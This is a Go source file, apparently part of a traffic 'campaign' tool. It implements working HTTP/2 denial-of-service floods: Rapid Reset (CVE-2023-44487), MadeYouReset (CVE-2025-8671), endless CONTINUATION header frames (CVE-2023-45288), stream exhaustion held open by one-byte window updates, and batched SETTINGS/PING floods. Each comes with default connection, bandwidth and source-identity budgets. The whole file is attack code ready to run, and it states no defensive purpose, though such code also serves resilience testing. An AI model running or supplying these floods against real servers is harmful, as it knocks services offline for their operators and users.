package attack

import (
	"bytes"
	"strconv"

	"golang.org/x/net/http2"
)

var http2Attacks = []Attack{
	{
		Name:  "rapid-reset",
		About: "streams that are reset as soon as they are opened (CVE-2023-44487)",
		Needs: Needs{TLS: true, HTTP2: true},
		Usual: Budget{Conns: 20, BytesPerSecond: 1_000_000, Identities: 20},
		begin: rapidReset,
	},
	{
		Name:  "made-you-reset",
		About: "streams that the server is brought to reset itself (CVE-2025-8671)",
		Needs: Needs{TLS: true, HTTP2: true},
		Usual: Budget{Conns: 20, BytesPerSecond: 1_000_000, Identities: 20},
		begin: madeYouReset,
	},
	{
		Name:  "continuation",
		About: "header blocks that go on in CONTINUATION frames without an end (CVE-2023-45288)",
		Needs: Needs{TLS: true, HTTP2: true},
		Usual: Budget{Conns: 50, BytesPerSecond: 32_000_000, Identities: 50},
		begin: continuations,
	},
	{
		Name:  "streams",
		About: "as many streams on each of many connections as the server allows, each in a handler that waits",
		Needs: Needs{TLS: true, HTTP2: true},
		Usual: Budget{Conns: 40, BytesPerSecond: 2_000_000, Identities: 40},
		begin: fillStreams,
	},
	{
		Name:  "settings-ping",
		About: "SETTINGS and PING frames, all of which want an answer that is not read",
		Needs: Needs{TLS: true, HTTP2: true},
		Usual: Budget{Conns: 20, BytesPerSecond: 2_000_000, Identities: 20},
		begin: settingsAndPings,
	},
}

// onHTTP2 calls do with an HTTP/2 connection of each worker, and again with a new one when it has returned.
func (c *campaign) onHTTP2(do func(h *h2conn, worker int)) {
	c.everyConn(func(worker int) {
		h, err := c.openHTTP2(c.source(worker))
		if err != nil {
			return
		}
		defer h.Close()
		do(h, worker)
	})
}

func rapidReset(c *campaign) {
	c.onHTTP2(func(h *h2conn, worker int) {
		for c.ctx.Err() == nil {
			id, err := h.request("GET", "/work", "new-"+strconv.Itoa(worker), true)
			if err == nil {
				err = h.frames.WriteRSTStream(id, http2.ErrCodeCancel)
			}
			if err != nil {
				return
			}
		}
	})
}

func madeYouReset(c *campaign) {
	c.onHTTP2(func(h *h2conn, worker int) {
		for c.ctx.Err() == nil {
			id, err := h.request("GET", "/work", "new-"+strconv.Itoa(worker), true)
			if err != nil {
				return
			}
			// Each is an error of the stream only, which the server has to answer with RST_STREAM.
			switch id / 2 % 3 {
			case 0:
				err = h.frames.WriteWindowUpdate(id, 0)
			case 1:
				err = h.frames.WriteWindowUpdate(id, 1<<31-1)
			case 2:
				err = h.frames.WriteData(id, true, []byte("after the end"))
			}
			if err != nil {
				return
			}
		}
	})
}

func continuations(c *campaign) {
	// An incomplete header field: nothing the decoder could hand on, so nothing that a limit on fields would count.
	piece := bytes.Repeat([]byte{0x00}, 8<<10)
	c.onHTTP2(func(h *h2conn, _ int) {
		c.tally.sent.Add(1)
		if h.frames.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: []byte{0x82}}) != nil {
			return
		}
		for c.ctx.Err() == nil {
			if h.frames.WriteContinuation(1, false, piece) != nil {
				return
			}
			c.tally.sent.Add(1)
		}
	})
}

func fillStreams(c *campaign) {
	c.onHTTP2(func(h *h2conn, worker int) {
		for i := range h.streams {
			if _, err := h.request("GET", "/hold", "new-"+strconv.Itoa(worker)+"-"+strconv.Itoa(int(i)), true); err != nil {
				return
			}
		}
		if h.out.Flush() != nil {
			return
		}
		// A window update for the connection is always welcome; its failure tells that the connection is gone.
		for sleep(c.ctx, dribbleEvery) == nil {
			if h.frames.WriteWindowUpdate(0, 1) != nil || h.out.Flush() != nil {
				return
			}
		}
	})
}

func settingsAndPings(c *campaign) {
	c.everyConn(func(worker int) {
		raw, err := c.dial(c.source(worker))
		if err != nil {
			return
		}
		conn, err := c.handshake(raw, "h2")
		if err != nil {
			return
		}
		defer conn.Close()
		var batch bytes.Buffer
		batch.WriteString(http2.ClientPreface)
		frames := http2.NewFramer(&batch, nil)
		_ = frames.WriteSettings() // a bytes.Buffer takes everything
		for c.ctx.Err() == nil {
			for i := range 64 {
				if i%2 == 0 {
					_ = frames.WritePing(false, [8]byte{byte(i)})
				} else {
					_ = frames.WriteSettings(http2.Setting{ID: http2.SettingHeaderTableSize, Val: uint32(i)})
				}
			}
			c.tally.sent.Add(64)
			if _, err := conn.Write(batch.Bytes()); err != nil {
				return
			}
			batch.Reset()
		}
	})
}
